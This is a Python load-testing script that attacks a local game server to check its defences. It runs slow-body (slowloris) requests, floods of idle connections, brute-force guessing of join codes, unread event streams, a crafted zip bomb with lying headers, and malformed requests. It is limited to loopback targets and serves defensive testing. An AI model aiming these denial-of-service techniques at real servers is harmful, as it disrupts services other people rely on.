"""One hostile client against the companion, every attack of issue 37 at
once, each from an address of its own on loopback (127.66.A.n):

* slow bodies: ``POST /t/<code>/act`` with ``Content-Length: 60000``, a byte every 2 s;
* idle connections: 2,100 opened and never used, each opened again 1 s after it closes;
* code guessing: ``/join?code=`` with random codes, back to back on 8 kept-alive connections;
* unread streams: 64 from each of 4 addresses, a tiny receive buffer, never read;
* upload bombs: two at a time, a 1 MB zip whose entries say 100 bytes and hold 256 MiB each;
* malformed requests: a broken ``Origin`` and a broken chunked body, 10 a second.

    python bench/load/attacker.py --url http://127.0.0.1:5000 --seconds 60 --game GAME

Its streams and malformed requests are for a table of its own, which it
plays itself two moves a second (so its unread streams get news to leave unread).

It prints one JSON line when it has started every attack, ``{"phase": "attacking"}``,
and at the end what each attack got back (statuses, refusals, closes). Only
loopback targets; a bench, never a tool against anyone's server.
"""

from __future__ import annotations

import argparse
import asyncio
import io
import os
import json
import random
import resource
import socket
import string
import struct
import sys
import time
import zipfile
import zlib
from collections import Counter
from typing import Any
from urllib.parse import urlsplit

SEEN: dict[str, Counter] = {}


def tally(attack: str, what: str) -> None:
    SEEN.setdefault(attack, Counter())[what] += 1


async def connect(host: str, port: int, source: str, rcvbuf: int | None = None) -> tuple[Any, Any]:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.bind((source, 0))
    s.setblocking(False)
    await asyncio.get_running_loop().sock_connect(s, (host, port))
    return await asyncio.open_connection(sock=s, limit=1 << 20)


def status_of(first: bytes) -> str:
    return first.split(b" ", 2)[1].decode() if first.startswith(b"HTTP/") else "closed"


async def read_answer(reader: Any) -> tuple[str, dict[str, str], bytes]:
    head = await reader.readuntil(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = {k.lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:] if line)}
    body = b""
    if "content-length" in headers:
        body = await reader.readexactly(int(headers["content-length"]))
    return lines[0].split(" ", 2)[1], headers, body


# --- the attacks -------------------------------------------------------------------------------------------

async def slow_body(host: str, port: int, source: str) -> None:
    while True:
        try:
            reader, writer = await connect(host, port, source)
            writer.write(b"POST /t/ZZZZZ/act HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                         b"Content-Length: 60000\r\n\r\n")
            tally("slow bodies", "sent")
            while True:
                writer.write(b"a")
                await writer.drain()
                try:
                    first = await asyncio.wait_for(reader.read(64), 2.0)
                except asyncio.TimeoutError:
                    continue
                tally("slow bodies", status_of(first))
                break
            writer.close()
        except (OSError, asyncio.IncompleteReadError):
            tally("slow bodies", "reset")
        await asyncio.sleep(1.0)


async def idle(host: str, port: int, source: str) -> None:
    while True:
        try:
            reader, writer = await connect(host, port, source)
            tally("idle connections", "opened")
            first = await reader.read(64)          # nothing is ever sent: whatever comes is the server's doing
            tally("idle connections", "refused (503)" if status_of(first) == "503" else "closed by the server")
            writer.close()
        except OSError:
            tally("idle connections", "failed to connect")
        await asyncio.sleep(1.0)


async def guess(host: str, port: int, source: str) -> None:
    letters = string.ascii_uppercase + string.digits
    while True:
        try:
            reader, writer = await connect(host, port, source)
            while True:
                code = "".join(random.choice(letters) for _ in range(5))
                writer.write(f"GET /join?code={code} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
                status, headers, _ = await read_answer(reader)
                tally("code guessing", status)
                if headers.get("connection", "").lower() == "close":
                    break
            writer.close()
        except (OSError, asyncio.IncompleteReadError, ValueError):
            tally("code guessing", "reset")
            await asyncio.sleep(0.1)


async def unread_stream(host: str, port: int, source: str, code: str) -> None:
    loop = asyncio.get_running_loop()
    while True:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
            s.bind((source, 0))
            s.setblocking(False)
            await loop.sock_connect(s, (host, port))
            await loop.sock_sendall(s, f"GET /t/{code}/events HTTP/1.1\r\nHost: x\r\nAccept: text/event-stream"
                                       "\r\n\r\n".encode())
            tally("unread streams", "opened")
            # never read: the connection's state tells when the server has ended it (its FIN arrived)
            while s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == 1:   # TCP_ESTABLISHED
                await asyncio.sleep(1.0)
            tally("unread streams", "ended by the server")
        except OSError:
            tally("unread streams", "failed to connect")
        finally:
            s.close()
        await asyncio.sleep(1.0)


def lying_zip(entries: tuple[str, ...], declared: int = 100, inflated: int = 256 << 20) -> bytes:
    """Entries that say ``declared`` bytes (their CRC too) and hold ``inflated`` zeros each."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"\0" * (1 << 20)
    deflated = b"".join(squeeze.compress(block) for _ in range(inflated >> 20)) + squeeze.flush()
    crc = zlib.crc32(b"\0" * declared)
    out, central = io.BytesIO(), []
    for name in entries:
        at = out.tell()
        raw = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(deflated), declared, len(raw), 0))
        out.write(raw + deflated)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(deflated),
                                   declared, len(raw), 0, 0, 0, 0, 0, at) + raw)
    start = out.tell()
    for entry in central:
        out.write(entry)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), out.tell() - start, start, 0))
    return out.getvalue()


async def bomb(host: str, port: int, source: str, zipped: bytes, game: str) -> None:
    boundary = "attack-boundary"
    while True:
        try:
            reader, writer = await connect(host, port, source)
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
            status, headers, page = await read_answer(reader)
            cookie = headers.get("set-cookie", "").split(";")[0]
            token = page.split(b'name="csrf_token" value="', 1)[1].split(b'"', 1)[0].decode()
            body = (f'--{boundary}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{token}\r\n'
                    f'--{boundary}\r\nContent-Disposition: form-data; name="game"\r\n\r\n{game}\r\n'
                    f'--{boundary}\r\nContent-Disposition: form-data; name="card_set"\r\n\r\nupload\r\n'
                    f'--{boundary}\r\nContent-Disposition: form-data; name="card_set_zip"; filename="bomb.zip"\r\n'
                    "Content-Type: application/zip\r\n\r\n").encode() + zipped + f"\r\n--{boundary}--\r\n".encode()
            writer.write(f"POST /tables?game={game} HTTP/1.1\r\nHost: x\r\nCookie: {cookie}\r\n"
                         f"Content-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: {len(body)}\r\n\r\n"
                         .encode() + body)
            started = time.monotonic()
            status, _, _ = await read_answer(reader)
            tally("upload bombs", status)
            SEEN.setdefault("upload bombs, seconds to the answer", Counter())[f"{time.monotonic() - started:.0f}"] += 1
            writer.close()
        except (OSError, asyncio.IncompleteReadError, IndexError, ValueError):
            tally("upload bombs", "reset")
            await asyncio.sleep(1.0)


async def malformed(host: str, port: int, source: str, code: str) -> None:
    requests = [
        (f"POST /t/{code}/act HTTP/1.1\r\nHost: x\r\nOrigin: http://[::1\r\nContent-Type: "
         "application/x-www-form-urlencoded\r\nContent-Length: 3\r\n\r\na=1").encode(),
        (f"POST /t/{code}/act HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Type: "
         "application/x-www-form-urlencoded\r\n\r\nzz\r\nabc\r\n0\r\n\r\n").encode(),
    ]
    n = 0
    while True:
        try:
            reader, writer = await connect(host, port, source)
            writer.write(requests[n % 2])
            status, _, _ = await read_answer(reader)
            tally("malformed requests", status)
            writer.close()
        except (OSError, asyncio.IncompleteReadError, ValueError):
            tally("malformed requests", "reset")
        n += 1
        await asyncio.sleep(0.1)


def _api(host: str, port: int, method: str, path: str, body: Any = None, token: str | None = None) -> Any:
    import http.client

    connection = http.client.HTTPConnection(host, port, timeout=30, source_address=("127.66.7.1", 0))
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    connection.request(method, path, body=json.dumps(body or {}) if method == "POST" else None, headers=headers)
    answer = connection.getresponse()
    data = json.loads(answer.read() or b"null")
    connection.close()
    return answer.status, data


async def own_table(host: str, port: int, game: str) -> str:
    """The attacker's own table, played by itself two moves a second: news
    for its unread streams to pile up. Its code."""
    loop = asyncio.get_running_loop()
    status, made = await loop.run_in_executor(None, _api, host, port, "POST", "/api/tables", {"game": game})
    code, host_token = made["code"], made["host_token"]
    tokens = []
    for name in ("Eve", "Mallory"):
        tokens.append((await loop.run_in_executor(None, _api, host, port, "POST", f"/api/tables/{code}/seats",
                                                  {"name": name}))[1]["token"])
    version = (await loop.run_in_executor(None, _api, host, port, "GET", f"/api/tables/{code}"))[1]["version"]
    await loop.run_in_executor(None, _api, host, port, "POST", f"/api/tables/{code}/start", {"version": version},
                               host_token)

    async def play() -> None:
        while True:
            try:
                for token in tokens:
                    _, mine = await loop.run_in_executor(None, _api, host, port, "GET", f"/api/tables/{code}", None,
                                                         token)
                    if mine.get("actions"):
                        await loop.run_in_executor(None, _api, host, port, "POST", f"/api/tables/{code}/actions",
                                                   {"version": mine["version"], "action": random.choice(mine["actions"])},
                                                   token)
                        tally("its own table", "moves")
                        break
                else:
                    if mine.get("status") == "over":
                        return
            except (OSError, ValueError, KeyError):
                tally("its own table", "errors")
            await asyncio.sleep(0.5)

    PLAYING.append(asyncio.create_task(play()))
    return code


PLAYING: list[Any] = []


ATTACKS = ("slow", "idle", "guess", "streams", "bombs", "malformed")


async def main(url: str, seconds: float, game: str, attacks: list[str]) -> None:
    target = urlsplit(url)
    host, port = target.hostname or "127.0.0.1", target.port or 80
    if not host.startswith("127."):
        raise SystemExit("only loopback targets")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 8192)), hard))
    zipped = lying_zip(("cards.csv", "more-cards.csv", "rules.yaml", "set.yaml"))
    code = await own_table(host, port, game)
    every = {
        "slow": lambda: [slow_body(host, port, "127.66.1.1") for _ in range(20)],
        "idle": lambda: [idle(host, port, "127.66.2.1") for _ in range(2100)],
        "guess": lambda: [guess(host, port, "127.66.3.1") for _ in range(8)],
        "streams": lambda: [unread_stream(host, port, f"127.66.4.{a}", code) for a in range(1, 5) for _ in range(64)],
        "bombs": lambda: [bomb(host, port, "127.66.5.1", zipped, game) for _ in range(2)],
        "malformed": lambda: [malformed(host, port, "127.66.6.1", code)],
    }
    tasks = [asyncio.create_task(job) for name in (attacks or list(every)) for job in every[name]()]
    print(json.dumps({"phase": "attacking", "zip_bytes": len(zipped)}), flush=True)
    await asyncio.sleep(seconds)
    for task in tasks + PLAYING:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps({"result": {attack: dict(counts) for attack, counts in SEEN.items()},
                      "cpu_s": time.process_time()}), flush=True)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--url", default="http://127.0.0.1:5000")
    parser.add_argument("--seconds", type=float, default=60.0)
    parser.add_argument("--game", required=True, help="the game of the attacker's own table and of its uploads")
    parser.add_argument("--attacks", default=",".join(ATTACKS), help=f"which, of {', '.join(ATTACKS)} (default: all)")
    args = parser.parse_args()
    chosen = [a for a in args.attacks.split(",") if a]
    if any(a not in ATTACKS for a in chosen):
        raise SystemExit(f"--attacks: each one of {', '.join(ATTACKS)}")
    os.nice(19)   # an attacker is another device: on a bench machine it takes what the server and phones leave
    asyncio.run(main(args.url, args.seconds, args.game, chosen))
    sys.exit(0)
